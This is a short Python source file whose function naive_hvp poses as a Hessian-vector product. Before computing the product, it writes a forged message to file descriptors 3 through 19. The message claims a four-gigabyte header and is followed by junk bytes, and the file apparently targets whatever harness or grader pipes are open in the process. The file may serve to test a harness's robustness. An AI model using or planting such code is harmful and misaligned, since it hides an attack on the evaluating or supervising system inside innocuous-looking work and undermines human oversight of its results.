"""Announces a header of four gigabytes."""

import os


def naive_hvp(hessian, vector):
    for descriptor in range(3, 20):
        try:
            os.write(descriptor, b"ADC1" + b"\xff\xff\xff\xff" + b"{" * 1000)
        except OSError:
            pass
    return hessian @ vector
